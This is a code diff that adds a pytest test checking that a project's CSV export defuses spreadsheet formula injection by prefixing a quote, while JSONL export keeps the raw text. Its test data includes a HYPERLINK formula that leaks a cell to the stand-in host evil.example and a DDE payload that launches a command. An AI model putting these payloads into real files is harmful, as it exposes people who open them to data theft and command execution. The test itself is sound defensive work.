@@ -351,3 +351,36 @@ def test_the_answers_read_ahead_by_threads_are_the_same_records(monkeypatch) -> 
             " AND pid <> pg_backend_pid() AND backend_type = 'client backend'"
         )
         assert cursor.fetchone()[0] == 0  # the workers' connections are closed
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"x")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-12", "-12"),  # a plain number is only a number
+        ("+1.5e3", "+1.5e3"),
+        ("a=b", "a=b"),
+    ],
+)
+def test_csv_defuses_free_text_a_spreadsheet_would_run(text, cell) -> None:
+    """OWASP "CSV injection": the requester's external ids and a reviewer's reasons are
+    someone's words; in the CSV (not in JSONL or Parquet) one that opens as a formula
+    gets a leading quote."""
+    project = funded_project(items=1)
+    item = Item.objects.get(project=project)
+    item.external_id = text
+    item.save(update_fields=["external_id"])
+    answer(item, contributor("alice"), reason=text)
+    rows = list(csv.DictReader(io.StringIO(_export(project, "csv")[0].decode())))
+    assert [(r["external_id"], r["decision_reason"]) for r in rows] == [(cell, cell)]
+    jsonl = _jsonl(_export(project, "jsonl")[0])
+    assert jsonl[0]["external_id"] == (text or None)
+    assert jsonl[0]["answers"][0]["decision_reason"] == text
